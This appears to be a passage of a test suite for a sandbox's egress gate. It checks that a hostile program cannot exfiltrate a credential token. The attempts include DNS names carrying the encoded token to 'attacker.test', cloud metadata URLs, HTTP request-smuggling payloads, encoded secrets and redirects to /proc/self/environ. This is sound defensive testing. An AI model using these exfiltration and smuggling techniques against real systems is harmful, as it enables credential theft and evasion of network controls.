// A hostile server in the real sandbox, with the built program, as root and as an ordinary user. It tries to reach
// what it may not, and to get the secret that its requests carry. The result of each attempt is checked from three
// sides: what the server got, which is searched for the secret each time; what hosts and the name server received;
// and the log. The same code reaches listed hosts, or succeeds outside, so that a failure means something.
import { spawn } from 'node:child_process';
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { childrenOf, isAlive, namespaceOf } from '../../src/sandbox/linux/process.ts';
import { Home } from '../fixtures/home.ts';
import {
  expectAbsent,
  handOver,
  Inside,
  Internet,
  listed,
  outward,
  persons,
  range,
  recorded,
  runAs,
  treeOf,
} from '../fixtures/internet.ts';
import { ECHOES, type Echo, randomAddress, startEcho, type Upstream } from '../fixtures/upstream.ts';

const hostile = join(import.meta.dirname, '../fixtures/hostile');
const policy = { default: 'allow' };
const root = process.getuid?.() === 0;
/** Milliseconds: a refusal must not take longer. */
const AT_ONCE = 2000;

const LANGUAGES = {
  py: ['/usr/bin/python3', join(hostile, 'reach.py')],
  mjs: [process.execPath, join(hostile, 'reach.mjs')],
  sh: ['/bin/sh', join(hostile, 'reach.sh')],
} as const;
type Language = keyof typeof LANGUAGES;
const both = ['py', 'mjs'] as const;
const all = ['py', 'mjs', 'sh'] as const;

/** The arguments of one attempt. */
type Try = readonly unknown[];

interface Outcome {
  readonly reached: boolean;
  readonly said: string;
  readonly ms: number;
}

/** The address of such a name, and the reason in the log. */
const LURES: { readonly [name: string]: readonly [address: string, reason: RegExp] } = {
  'loopback.test': ['127.0.0.1', /127\.0\.0\.1, a loopback address/],
  'private.test': ['10.11.12.13', /a private address/],
  'metadata.test': ['169.254.169.254', /metadata/],
  'metadata-six.test': ['fd00:ec2::254', /metadata/],
  'link.test': ['fe80::1', /a link-local address/],
  'six.test': ['::1', /::1, a loopback address/],
  'mapped.test': ['::ffff:127.0.0.1', /an address with an IPv4 address inside/],
  'translated.test': ['64:ff9b::7f00:1', /an address with an IPv4 address inside/],
  'anywhere.test': ['0.0.0.0', /an unspecified address/],
  'own.test': [ownAddress() ?? '127.0.0.2', /resolves to/],
};

describe.each(persons)('to $name', (person) => {
  const secret = `ghp_${randomBytes(18).toString('hex')}`;
  const theirSecret = `glpat-${randomBytes(20).toString('hex')}`;
  /** What a name that carries data out carries. */
  const mark = randomBytes(6).toString('hex');
  const stack = new AsyncDisposableStack();
  const datagrams: string[] = [];
  let internet: Internet;
  let home: Home;
  let inside: Inside;
  let api: Upstream;
  let open: Upstream;
  let elsewhere: Upstream;
  let theirs: Upstream;
  /** Listens at every address of this machine, on one port. */
  let lure: Upstream;
  /** Of the machine's loopback, and in the range that the profile names. */
  let opened = '';
  let token = '';
  /** As the lure, for any protocol. */
  let ear: Echo;
  let udp = 0;

  beforeAll(async () => {
    internet = stack.use(await Internet.open());
    api = await internet.host(['api.test']);
    open = await internet.host(['open.test']);
    elsewhere = await internet.host(['elsewhere.test']);
    theirs = await internet.host(['theirs.test']);
    const lures = [...Object.keys(LURES), 'sealed.test', 'rebinding.test', 'sealed-rebinding.test'];
    const everywhere = {
      address: ownAddress(6) === undefined ? '0.0.0.0' : '::',
      port: 0,
      plain: false,
    } as const;
    lure = await internet.host(lures, everywhere);
    for (const [name, [address]] of Object.entries(LURES)) internet.resolver.names.set(name, [address]);
    internet.resolver.names.set('sealed.test', ['127.0.0.1']);
    opened = randomAddress();

    ear = stack.use(await startEcho(0, everywhere.address));
    const socket = createSocket(everywhere.address === '::' ? 'udp6' : 'udp4').bind(0, everywhere.address);
    stack.defer(() => void socket.close());
    socket.on('message', (message, from) => {
      datagrams.push(message.toString());
      socket.send('heard', from.port, from.address);
    });
    await once(socket, 'listening');
    udp = socket.address().port;

    home = stack.use(new Home({ within: runAs(person) }));
    internet.join(home);
    for (const [name, value] of Object.entries({ secret, theirSecret }))
      writeFileSync(join(home.dir, name), value);
    const from = (name: string): object => ({ command: ['/bin/cat', join(home.dir, name)] });
    const sealed = ['sealed.test', 'sealed-rebinding.test'].map((name) => listed(lure, name));
    home.profile('hostile', {
      server: outward,
      credentials: { TOKEN: { from: from('secret'), hosts: [listed(api), ...sealed], as: 'any' } },
      sandbox: {
        read: [hostile],
        network: [
          listed(open),
          listed(open, 'open.test', true),
          ...[...Object.keys(LURES), 'rebinding.test'].map((name) => listed(lure, name)),
          ...[api, open, { address: opened }].map(range),
        ],
      },
      policy,
    });
    home.profile('other', {
      server: outward,
      credentials: { TOKEN: { from: from('theirSecret'), hosts: [listed(theirs)], as: 'any' } },
      sandbox: { read: [hostile], network: [range(theirs)] },
      policy,
    });
    handOver(home, person);
    inside = stack.use(await Inside.open(home.run('hostile'), [secret, theirSecret]));
    token = (await inside.see()).env.TOKEN ?? '';
    expect(token).toMatch(/^ghp_\w{36}$/);
  });

  afterAll(async () => {
    await stack.disposeAsync();
  });

  /** The result of each attempt. */
  async function tried(
    language: Language,
    attempt: string,
    tries: readonly Try[],
    of = inside,
  ): Promise<Outcome[]> {
    const input = tries.map((one) => (language === 'sh' ? inShell(one) : JSON.stringify(one))).join('\n');
    return read(await of.out([...LANGUAGES[language], attempt], { input: `${input}\n`, seconds: 30 }), tries);
  }

  /** A person's rights are the same in any language: the second person's server speaks only one. */
  const spoken = (languages: readonly Language[]): readonly Language[] =>
    person === persons[0] ? languages : languages.slice(0, 1);

  /** In each language each attempt succeeds. */
  async function succeed(
    attempt: string,
    tries: readonly Try[],
    languages: readonly Language[] = both,
  ): Promise<void> {
    for (const language of spoken(languages)) {
      const outcomes = await tried(language, attempt, tries);
      const failed = outcomes.flatMap((one, at) => (one.reached ? [] : [[language, tries[at], one.said]]));
      expect(failed).toEqual([]);
    }
  }

  /** In each language each attempt fails, and at once; returns the messages. */
  async function fail(
    attempt: string,
    tries: readonly Try[],
    languages: readonly Language[] = both,
  ): Promise<string[]> {
    const said: string[] = [];
    for (const language of spoken(languages)) {
      const outcomes = await tried(language, attempt, tries);
      const wrong = outcomes.flatMap((one, at) =>
        one.reached || one.ms > AT_ONCE ? [[language, tries[at], one]] : [],
      );
      expect(wrong).toEqual([]);
      said.push(...outcomes.map((one) => one.said));
    }
    return said;
  }

  /**
   * Nothing that happens meanwhile reaches a host in any way; `dialled` may be connected to, and receives nothing.
   */
  async function unnoticed<Result>(work: () => Promise<Result>, dialled?: Upstream): Promise<Result> {
    const hosts = [api, open, elsewhere, theirs, lure];
    const noticed = (): unknown => ({
      connections: [...hosts.filter((host) => host !== dialled), ear].map(({ accepted }) => accepted),
      requests: hosts.map(({ requests }) => requests.length),
      datagrams: datagrams.length,
    });
    const before = noticed();
    const result = await work();
    expect(noticed()).toEqual(before);
    return result;
  }

  /** These are recorded as refused. */
  async function refused(host: string, port: number, reason?: RegExp): Promise<void> {
    const fields = { profile: 'hostile', outcome: 'refused', host, port };
    await recorded(home, 'egress.connect', reason === undefined ? fields : { ...fields, reason });
  }

  /**
   * On a port of its own either side may speak first: the gate connects, and sends nothing on that it has not
   * inspected.
   */
  const unusual = (): Upstream | undefined => (open.port === 443 && open.plain === 80 ? undefined : open);
  const at = (host: Upstream, path = '/echo', name?: string): string =>
    `${name === undefined ? host.url : host.url.replace(host.names[0] ?? '', name)}${path}`;
  const plainly = (host: Upstream): string =>
    `http://${host.names[0]}${host.plain === 80 ? '' : `:${host.plain}`}`;
  const bearer = (): { Authorization: string } => ({ Authorization: `Bearer ${token}` });
  /** A request's head and body, with nothing but what is given. */
  const request = (line: string, fields: readonly string[], body = ''): string =>
    `${[`${line} HTTP/1.1`, ...fields].join('\r\n')}\r\n\r\n${body}`;
  const hostOf = (host: Upstream): string => `Host: ${new URL(host.url).host}`;
  const authorized = (): string => `Authorization: Bearer ${token}`;

  describe('reach', () => {
    test('W-EGR-1 a host that is not listed fails by its name, and is recorded', async () => {
      await succeed('get', [[at(open)], [at(api), bearer()]], all);
      await succeed('connect', [['open.test', open.plain]]);
      await unnoticed(() => fail('get', [[at(elsewhere)], [at(elsewhere), bearer()]], all));
      await unnoticed(() => fail('connect', [['elsewhere.test', elsewhere.plain]]));
      await refused('elsewhere.test', 53, /^not listed$/);
    });

    test('W-EGR-1 an unlisted port of a listed host fails, and is recorded', async () => {
      // Somebody listens there, beside the host.
      await using unlisted = await startEcho(0, open.address);
      expect(await outside('connect', [[unlisted.address, unlisted.port]])).toMatchObject([
        { reached: true },
      ]);
      await unnoticed(() =>
        fail('connect', [
          ['open.test', unlisted.port],
          ['api.test', unlisted.port],
          // Where other names are served, but not this one.
          ['api.test', open.plain],
          ['api.test', lure.port],
          ['open.test', 22],
        ]),
      );
      expect(unlisted.accepted).toBe(1);
      await refused('open.test', unlisted.port, /^not listed$/);
      await refused('api.test', unlisted.port, /^not listed$/);
      await refused('api.test', open.plain, /^not listed$/);
      await refused('api.test', lure.port, /^not listed$/);
      await refused('open.test', 22, /^not listed$/);
    });

    test('W-EGR-1 a host by its raw address fails, listed or not, in any spelling', async () => {
      const addresses = [open, elsewhere].map(({ address }) => address);
      const own = [ownAddress(), '127.0.0.1'].filter((one) => one !== undefined);
      const reachable = [
        ...[open, elsewhere].map(({ address, plain }) => [address, plain]),
        ...own.map((address) => [address, ear.port]),
      ];
      expect((await outside('connect', reachable)).filter(({ reached }) => !reached)).toEqual([]);
      await unnoticed(() =>
        fail('connect', [
          ...reachable,
          ...addresses.flatMap((address) => [open.port, 22].map((port) => [address, port])),
          ...own.flatMap((address) => [open.port, lure.port].map((port) => [address, port])),
          ['127.0.0.1', Number(internet.resolver.server.split(':')[1])],
          ['0.0.0.0', lure.port],
          ['8.8.8.8', 53],
          ['1.1.1.1', 443],
          ['255.255.255.255', 443],
        ]),
      );
      const [, b, c, d] = elsewhere.address.split('.').map(Number) as [number, number, number, number];
      const number = 127 * 2 ** 24 + b * 2 ** 16 + c * 2 ** 8 + d;
      await unnoticed(() =>
        fail(
          'get',
          [
            elsewhere.address,
            `${number}`,
            `0x${number.toString(16)}`,
            `127.${b * 2 ** 16 + c * 2 ** 8 + d}`,
          ].map((host) => [`http://${host}:${elsewhere.plain}/echo`, bearer()]),
          all,
        ),
      );
      for (const address of addresses) {
        await refused(address, open.port, /no listed name has this address/);
        await refused(address, 22, /^not listed$/);
      }
      await refused('8.8.8.8', 53, /^not listed$/);
      await refused('1.1.1.1', 443, /listed/);
    });

    test('W-EGR-1 W-EGR-3 metadata services fail, by address, by name and by redirect', async () => {
      const urls = [
        'http://169.254.169.254/latest/meta-data/',
        'http://[fd00:ec2::254]/latest/meta-data/',
        'http://[fe80::a9fe:a9fe]/',
        'http://metadata.google.internal/computeMetadata/v1/',
        'http://100.100.100.200/',
      ];
      const redirects = urls.map((url) => at(api, `/redirect?to=${encodeURIComponent(url)}`));
      await succeed(
        'get',
        [[at(api, `/redirect?to=${encodeURIComponent(at(api, '/echo/raw'))}`), bearer()]],
        all,
      );
      await unnoticed(() =>
        fail(
          'get',
          urls.map((url) => [url, { 'Metadata-Flavor': 'Google' }]),
          all,
        ),
      );
      await fail(
        'get',
        redirects.map((url) => [url, bearer()]),
        all,
      );
      await refused('metadata.google.internal', 53);
      await refused('169.254.169.254', 80, /listed/);
      await refused('100.100.100.200', 80, /listed/);
    });

    test('W-EGR-1 nothing goes by IPv6, not even to a loopback address', async () => {
      const six = ownAddress(6);
      if (six !== undefined)
        expect(await outside('connect', [['::1', ear.port]])).toMatchObject([{ reached: true }]);
      const addresses = ['::1', six ?? 'fd00::3', '2001:db8::1', '::ffff:127.0.0.1', '::ffff:8.8.8.8'];
      const tries = addresses.flatMap((address) => [ear.port, lure.port, 443].map((port) => [address, port]));
      await unnoticed(() => fail('connect', tries));
    });

    test('W-EGR-1 nothing goes by UDP', async () => {
      const addresses = ['127.0.0.1', ownAddress(), ownAddress(6) && '::1'].filter(
        (one) => one !== undefined,
      );
      const tries = addresses.map((address) => [address, udp]);
      expect((await outside('udp', tries)).map(({ said }) => said)).toEqual(tries.map(() => 'heard'));
      await unnoticed(() =>
        fail('udp', [
          ...tries,
          [open.address, udp],
          ['open.test', udp],
          ['open.test', 443],
          ['8.8.8.8', 53],
          ['255.255.255.255', udp],
          ['224.0.0.251', 5353],
        ]),
      );
    });

    test('W-BOX-13 W-EGR-1 no packet is made by hand', async () => {
      const tries = [
        ['AF_INET', 'SOCK_RAW', 6],
        ['AF_INET', 'SOCK_RAW', 255],
        ['AF_INET6', 'SOCK_RAW', 58],
        ['AF_PACKET', 'SOCK_RAW', 0x300],
        ['AF_PACKET', 'SOCK_DGRAM', 0x300],
      ];
      if (root) expect((await outside('raw', tries)).filter(({ reached }) => !reached)).toEqual([]);
      await fail('raw', [...tries, ['AF_INET', 'SOCK_DGRAM', 1], ['AF_VSOCK', 'SOCK_STREAM', 0]], ['py']);
    });
  });

  describe('ask for', () => {
    test('W-EGR-2 unlisted names that carry data out: none is answered, and no query leaves', async () => {
      const asked = internet.resolver.queries.length;
      const hex = Buffer.from(token).toString('hex');
      const names = [
        `${mark}.attacker.test`,
        `${hex.slice(0, 60)}.${hex.slice(60)}.${mark}.attacker.test`,
        `${mark}.open.test`,
        `${mark}.api.test`,
        `_${mark}._tcp.attacker.test`,
        `${mark}.localhost`,
        `${'a'.repeat(63)}.${mark}.attacker.test`,
      ];
      await succeed('name', [['open.test'], ['api.test']], all);
      await fail(
        'name',
        names.map((name) => [name]),
        all,
      );
      // A, NS, CNAME, NULL, PTR, MX, TXT, AAAA, SRV, HTTPS, ANY.
      const kinds = [1, 2, 5, 10, 12, 15, 16, 28, 33, 65, 255];
      const byHand = ['udp', 'tcp'].flatMap((transport) =>
        names.flatMap((name) => kinds.map((kind) => [name, kind, '127.0.0.1', 53, transport])),
      );
      await succeed(
        'ask',
        ['udp', 'tcp'].map((transport) => ['open.test', 1, '127.0.0.1', 53, transport]),
        ['py'],
      );
      expect(new Set(await fail('ask', byHand, ['py']))).toEqual(new Set(['code 3, 0 answers']));
      // No other kind of a listed name is answered with anything that could have come from elsewhere.
      const listedKinds = kinds
        .filter((kind) => kind !== 1)
        .map((kind) => ['open.test', kind, '127.0.0.1', 53, 'udp']);
      expect(new Set(await fail('ask', listedKinds, ['py']))).toEqual(new Set(['code 0, 0 answers']));
      for (const name of names) await refused(name, 53, /^not listed$/);
      expect(internet.resolver.queries).toHaveLength(asked);
    });

    test('W-EGR-2 names at other name servers: none is reachable', async () => {
      const { port } = new URL(`udp://${internet.resolver.server}`);
      const asked = internet.resolver.queries.length;
      const servers: (readonly [string, number])[] = [
        ['127.0.0.1', Number(port)],
        ['127.0.0.53', 53],
        ['127.0.0.11', 53],
        ['8.8.8.8', 53],
        ['1.1.1.1', 53],
        ['9.9.9.9', 853],
        ...(ownAddress() === undefined ? [] : [[ownAddress() ?? '', 53] as const]),
      ];
      const direct = await outside(
        'ask',
        ['udp', 'tcp'].map((way) => ['open.test', 1, '127.0.0.1', Number(port), way]),
      );
      expect(direct).toMatchObject([{ reached: true }, { reached: true }]);
      const tries = ['udp', 'tcp'].flatMap((way) =>
        servers.map((server) => [`${mark}.open.test`, 1, ...server, way]),
      );
      await fail('ask', tries, ['py']);
      await fail(
        'ask',
        servers.map((server) => ['open.test', 'A', ...server]),
        ['mjs'],
      );
      expect(internet.resolver.queries).toHaveLength(asked + 2);
      await refused('127.0.0.53', 53, /^not listed$/);
    });

    test('W-EGR-3 listed names that lead to this machine, private networks or metadata services: none is dialled', async () => {
      // Where the profile names the range, the same host is reached by the same name.
      const [lured = ''] = Object.keys(LURES);
      internet.resolver.names.set(lured, [opened]);
      await succeed('get', [[at(lure, '/echo', lured)]]);
      internet.resolver.names.set(lured, ['127.0.0.1']);
      await unnoticed(() =>
        fail(
          'get',
          [...Object.keys(LURES)].map((name) => [at(lure, '/echo', name)]),
          all,
        ),
      );
      for (const [name, [, reason]] of Object.entries(LURES)) await refused(name, lure.port, reason);
      // With the credential's own host: the server gets the reason, and nothing was sent.
      await unnoticed(() => fail('get', [[at(lure, '/echo', 'sealed.test'), bearer()]], all));
      await refused('sealed.test', lure.port, /127\.0\.0\.1, a loopback address/);
      // Of several addresses none is tried that is not allowed.
      internet.resolver.names.set('private.test', ['127.0.0.1', '::1', ownAddress() ?? '127.0.0.1']);
      await unnoticed(() => fail('get', [[at(lure, '/echo', 'private.test')]]));
    });

    test.each(['rebinding.test', 'sealed-rebinding.test'])(
      'W-EGR-3 a name that is one address first and another then (%s): it is looked at for each connection',
      async (name) => {
        const url = at(lure, '/echo', name);
        let questions = 0;
        // One for each kind of address, and then no more.
        internet.resolver.names.set(name, () => (questions++ < 2 ? [opened] : ['127.0.0.1']));
        await succeed('get', [[url, bearer()]], ['py']);
        await unnoticed(() => fail('get', [[url, bearer()]], all));
        await refused(name, lure.port, /127\.0\.0\.1, a loopback address/);
        // It was its only fault.
        internet.resolver.names.set(name, [opened]);
        await succeed('get', [[url, bearer()]], all);
      },
    );
  });

  describe('send', () => {
    test('W-EGR-4 another name in TLS than was connected to, or none', async () => {
      const whole = (host: Upstream): string =>
        request('GET /echo', [hostOf(host), authorized(), 'Connection: close']);
      const ways = [api, open].flatMap((host) =>
        ['elsewhere.test', 'theirs.test', host === api ? 'open.test' : 'api.test', 'localhost', null].map(
          (name) => [host.names[0], host.port, name, whole(host)],
        ),
      );
      await succeed(
        'say',
        [api, open].map((host) => [host.names[0], host.port, host.names[0], whole(host)]),
        all,
      );
      await unnoticed(() => fail('say', ways, all), unusual());
      for (const { names, port } of [api, open]) {
        await refused(names[0] ?? '', port, /names another host/);
        await refused(names[0] ?? '', port, /names no host/);
      }
    });

    test('W-SEAL-4 W-EGR-4 requests that two readers could read differently', async () => {
      const host = hostOf(api);
      const end = 'Connection: close';
      const smuggled = request('GET /smuggled', ['Host: elsewhere.test', authorized()]);
      const bodies: readonly string[] = [
        request('GET /echo', ['Host: elsewhere.test', authorized(), end]),
        request('GET /echo', [`${host}1`, authorized(), end]),
        request('GET /echo', [host, 'Host: elsewhere.test', authorized(), end]),
        request('GET /echo', [authorized(), end]),
        request('GET https://elsewhere.test/echo', [host, authorized(), end]),
        request(`GET ${api.url}/echo`, [host, authorized(), end]),
        request('GET //elsewhere.test/echo HTTP/1.1\r\nHost: elsewhere.test\r\nX: ', [
          host,
          authorized(),
          end,
        ]),
        request('CONNECT elsewhere.test:443', [host, authorized(), end]),
        request(
          'POST /echo',
          [host, 'Content-Length: 4', 'Transfer-Encoding: chunked', authorized(), end],
          `0\r\n\r\n${smuggled}`,
        ),
        request(
          'POST /echo',
          [host, 'Transfer-Encoding: chunked', 'Content-Length: 4', authorized(), end],
          `0\r\n\r\n${smuggled}`,
        ),
        request(
          'POST /echo',
          [host, 'Content-Length: 0', `Content-Length: ${smuggled.length}`, authorized(), end],
          smuggled,
        ),
        request('POST /echo', [host, `Content-Length: +${smuggled.length}`, authorized(), end], smuggled),
        request(
          'POST /echo',
          [host, 'Transfer-Encoding: xchunked', authorized(), end],
          `0\r\n\r\n${smuggled}`,
        ),
        request(
          'POST /echo',
          [host, 'Transfer-Encoding: chunked, identity', authorized(), end],
          `0\r\n\r\n${smuggled}`,
        ),
        request(
          'POST /echo',
          [host, 'Transfer-Encoding\t: chunked', authorized(), end],
          `0\r\n\r\n${smuggled}`,
        ),
        request('GET /echo', [host, 'X-Folded: a', ' Host: elsewhere.test', authorized(), end]),
        request('GET /echo', [host, authorized(), end, 'Upgrade: websocket', 'Connection: Upgrade']),
        request('GET /echo', [host, authorized(), end]).replaceAll('\r\n', '\n'),
        `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
      ];
      const tries = (some: readonly string[]): Try[] =>
        some.map((one) => ['api.test', api.port, 'api.test', one]);
      await succeed('say', tries([request('GET /echo', [host, authorized(), end])]), all);
      const said = await unnoticed(() => fail('say', tries(bodies), all));
      for (const one of said) expect(one).toMatch(/^HTTP\/1\.1 [45]\d\d /);
      await refused('api.test', api.port, /malformed/);
      await refused('api.test', api.port, /the target is not a path/);
      await refused('api.test', api.port, /not the name that was connected to/);
    });

    test('W-SEAL-4 a second request inside the first: it is decided on by itself, or is a body', async () => {
      const host = hostOf(api);
      const second = request('GET /smuggled', ['Host: elsewhere.test', authorized()]);
      const length = `Content-Length: ${second.length}`;
      const tries = [
        // In one piece behind the first.
        request('GET /echo/raw', [host], second),
        // As a body of a GET, which some do not read.
        request(
          'GET /echo/raw',
          [host, length, 'Connection: close', 'Content-Type: application/json'],
          second,
        ),
        // In what belongs to a chunk, and behind the last.
        request(
          'POST /echo/raw',
          [host, 'Transfer-Encoding: chunked', 'Connection: close'],
          `1;x="${second.slice(0, 15)}"\r\na\r\n0\r\nX-Late: b\r\n\r\n`,
        ),
      ];
      const before = api.requests.length;
      const reached = elsewhere.accepted;
      await succeed(
        'say',
        tries.map((one) => ['api.test', api.port, 'api.test', one]),
        ['py'],
      );
      const came = api.requests.slice(before);
      expect(came).toHaveLength(tries.length);
      expect(new Set(came.map(({ target }) => target))).toEqual(new Set(['/echo/raw']));
      expect(came.filter(({ raw }) => raw.includes('X-Late') || raw.includes('x="'))).toEqual([]);
      expect(elsewhere.accepted).toBe(reached);
    });

    test('W-SEAL-2 W-EGR-4 the placeholder in the clear, or in a protocol other than HTTP', async () => {
      const end = 'Connection: close';
      const host = `Host: ${new URL(plainly(open)).host}`;
      const open80 = (one: string): Try => ['open.test', open.plain, one];
      await succeed('clear', [open80(request('GET /echo', [host, end]))]);
      const said = await unnoticed(
        () =>
          fail('clear', [
            open80(request('GET /echo', [host, authorized(), end])),
            open80(request(`GET /echo?token=${token}`, [host, end])),
            open80(request('POST /echo', [host, end, `Content-Length: ${token.length}`], token)),
            open80(request('GET /echo', ['Host: elsewhere.test', end])),
            open80(request('GET http://elsewhere.test/echo', [host, end])),
            open80(request('CONNECT elsewhere.test:443', [host, end])),
            open80(`${token}\r\n\r\n`),
            // Where TLS is expected.
            ['api.test', api.port, request('GET /echo', [hostOf(api), authorized(), end])],
          ]),
        unusual(),
      );
      // Three of eight carry it and are HTTP.
      expect(said.filter((one) => one.startsWith('HTTP/1.1 403'))).toHaveLength((3 * said.length) / 8);
      await recorded(home, 'credential.use', { outcome: 'refused', host: 'open.test', port: open.plain });
      await refused('api.test', api.port, /^it is not TLS$/);
    });

    test('W-SEAL-2 the placeholder in spellings that are not replaced: each is refused, and none is forwarded', async () => {
      const base64 = (of: string): string => Buffer.from(of).toString('base64');
      const hex = Buffer.from(token).toString('hex');
      const percent = hex.replace(/../g, '%$&');
      const json = { 'content-type': 'application/json' };
      const plain = { 'content-type': 'text/plain' };
      const zipped = (of: string): string => gzipSync(of).toString('latin1');
      const get = (path: string, headers: object = {}): Try => [path, { method: 'GET', headers }];
      const post = (body: string, headers: object = plain): Try => [
        '/echo',
        { method: 'POST', headers, body },
      ];
      const requests: readonly Try[] = [
        get('/echo', { 'x-key': base64(token) }),
        get('/echo', { 'x-key': base64(base64(token)) }),
        get('/echo', { 'x-key': hex }),
        get('/echo', { 'x-key': percent }),
        get('/echo', { [token]: 'x' }),
        get(`/echo?k=${encodeURIComponent(base64(token))}`),
        get(`/echo?k=${percent.replaceAll('%', '%25')}`),
        get(`/echo?k=${hex}`),
        get(`/echo/${percent.replaceAll('%', '%25')}`),
        get('/echo', { authorization: `Basic ${base64(base64(`me:${token}`))}` }),
        get('/echo', { authorization: `AWS4-HMAC-SHA256 Credential=${token}/x, Signature=0` }),
        post(token),
        post(base64(token)),
        post(JSON.stringify({ key: base64(token) }), json),
        post(JSON.stringify({ key: base64(base64(token)) }), json),
        post(JSON.stringify({ key: hex }), json),
        post(JSON.stringify({ key: percent }), json),
        post(zipped(token), { ...plain, 'content-encoding': 'gzip' }),
        post(zipped(zipped(token)), { ...json, 'content-encoding': 'gzip, gzip' }),
        post(zipped(token), { ...json, 'content-encoding': 'unknown' }),
      ];
      const answers = await unnoticed(async () => {
        const all: [Try, number | string][] = [];
        for (const [path, options] of requests as [string, object][]) {
          const { status, failed } = await inside.fetch(`${api.url}${path}`, options);
          all.push([[path, options], status ?? failed]);
        }
        return all;
      });
      // The last two declare bodies that cannot be decoded.
      expect(answers.slice(0, -2).filter(([, status]) => status !== 403)).toEqual([]);
      expect(answers.slice(-2).map(([, status]) => status)).toEqual([415, 415]);
    });

    test('W-SEAL-1 the placeholder in pieces: a byte in each chunk, and over TLS records', async () => {
      const chunks = (body: string, size: number): string =>
        `${(body.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []).map((one) => `${one.length.toString(16)}\r\n${one}\r\n`).join('')}0\r\n\r\n`;
      const json = JSON.stringify({ token });
      const head = [hostOf(api), 'Connection: close', 'Transfer-Encoding: chunked'];
      const typed = [...head, 'Content-Type: application/json'];
      const before = api.requests.length;
      await succeed(
        'say',
        [
          [request('POST /echo/raw?of=body', typed, chunks(json, 1)), 0],
          [request('POST /echo/raw?of=body', typed, chunks(json, 7)), 5],
          [
            request(
              'POST /echo/raw?of=body',
              typed,
              chunks(JSON.stringify({ fill: 'x'.repeat(300_000), token }), 4099),
            ),
            16_000,
          ],
          [request('GET /echo', [hostOf(api), authorized(), 'Connection: close']), 1],
        ].map(([said, cut]) => ['api.test', api.port, 'api.test', said, cut]),
        ['py'],
      );
      const came = api.requests.slice(before);
      expect(
        came.map(({ body, headers }) => (body.includes(secret) ? 'body' : headers.authorization)),
      ).toEqual(['body', 'body', 'body', `Bearer ${secret}`]);
      // Where it is not allowed, pieces do not hide it.
      const said = await fail(
        'say',
        [1, 3, 20].map((size) => [
          'api.test',
          api.port,
          'api.test',
          request('POST /echo', head, chunks(`key ${token} end`, size)),
        ]),
        ['py'],
      );
      for (const one of said) expect(one).toMatch(/^HTTP\/1\.1 403 /);
      expect(api.text).not.toContain(token);
    });

    test('W-SEAL-2 W-EGR-1 a redirect elsewhere, which takes the placeholder along', async () => {
      const by = (status: number, to: string): Try => [
        at(api, `/redirect?status=${status}&to=${encodeURIComponent(to)}`),
        bearer(),
      ];
      await succeed('get', [by(302, '/echo'), by(307, at(open))], all);
      const reached = elsewhere.accepted;
      await fail(
        'get',
        [
          by(301, at(elsewhere)),
          by(308, `${plainly(elsewhere)}/echo`),
          by(302, `http://127.0.0.1:${lure.port}/echo`),
          by(302, `http://${elsewhere.address}/echo`),
          by(302, at(lure, '/echo', 'loopback.test')),
          by(302, 'file:///proc/self/environ'),
        ],
        all,
      );
      expect(elsewhere.accepted).toBe(reached);
      // To a listed host without TLS it is refused if it is still there.
      const plain = open.requests.length;
      await fail('get', [by(302, `${plainly(open)}/echo`)], ['py', 'sh']);
      expect(open.requests).toHaveLength(plain);
      await refused('elsewhere.test', 53);
    });
  });

  describe('get', () => {
    test('W-SEAL-3 W-SEAL-1 the secret from a host that echoes what it was sent, in any spelling', async () => {
      const before = api.requests.length;
      const twice = Buffer.from(Buffer.from(`Bearer ${secret}`).toString('base64'))
        .toString('base64')
        .slice(12, 60);
      for (const path of ECHOES) {
        const of = path.startsWith('/echo') ? `${path.includes('?') ? '&' : '?'}of=authorization` : '';
        const url = `${api.url}${path}${of}`;
        const answer = await inside.fetch(url, {
          headers: { ...bearer(), range: 'bytes=10-30' },
          redirect: 'manual',
        });
        expect(answer, path).toMatchObject({ broken: false });
        expect(JSON.stringify(answer)).not.toContain(twice);
      }
      // As bytes, which nobody has unpacked.
      const raw = ECHOES.map((path) => [
        'api.test',
        api.port,
        'api.test',
        request(`GET ${path}`, [
          hostOf(api),
          authorized(),
          'Accept-Encoding: gzip, br, zstd, deflate',
          'Connection: close',
        ]),
      ]);
      await tried('py', 'say', raw);
      const came = api.requests.slice(before);
      expect(came).toHaveLength(2 * ECHOES.length);
      expect(came.filter(({ headers }) => headers.authorization !== `Bearer ${secret}`)).toEqual([]);
      const { body } = await inside.fetch(`${api.url}/echo/raw?of=authorization`, { headers: bearer() });
      expect(body).toBe(`Bearer ${token}`);
    });

    test('W-SEAL-3 the secret from any place where it was substituted', async () => {
      const form = { 'content-type': 'application/x-www-form-urlencoded' };
      const json = { 'content-type': 'application/json' };
      const basic = Buffer.from(`me:${token}`).toString('base64');
      const requests: readonly (readonly [string, object])[] = [
        ['/echo', { headers: { 'x-key': token } }],
        ['/echo', { headers: { cookie: `session=${token}` } }],
        ['/echo', { headers: { authorization: `Basic ${basic}` } }],
        [`/echo?token=${token}`, {}],
        [`/echo/bot${token}/x`, {}],
        ['/echo', { method: 'POST', headers: form, body: `token=${token}` }],
        ['/echo', { method: 'POST', headers: json, body: JSON.stringify({ token }) }],
        [
          '/echo',
          {
            method: 'POST',
            headers: { ...json, 'content-encoding': 'gzip' },
            body: gzipSync(JSON.stringify({ token })).toString('latin1'),
          },
        ],
        [`/nowhere/${token}`, {}],
        [`/echo/html?token=${token}`, { headers: bearer() }],
      ];
      const before = api.requests.length;
      for (const [path, options] of requests) {
        expect(await inside.fetch(`${api.url}${path}`, options)).toMatchObject({
          status: expect.any(Number),
        });
      }
      expect(api.requests).toHaveLength(before + requests.length);
      expect(api.text).not.toContain(token);
    });

    test('W-EGR-8 W-SEAL-1 the key that signs for the gate, or the secret, from any file or memory', async () => {
      const folder = mkdtempSync(join(tmpdir(), 'warder-key-'));
      try {
        const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
        for (const format of ['pem', 'der'] as const) {
          mkdirSync(join(folder, format));
          writeFileSync(join(folder, format, 'key'), privateKey.export({ type: 'pkcs8', format } as never));
        }
        const control = await outside(
          'keys',
          ['pem', 'der'].map((format) => [join(folder, format)]),
        );
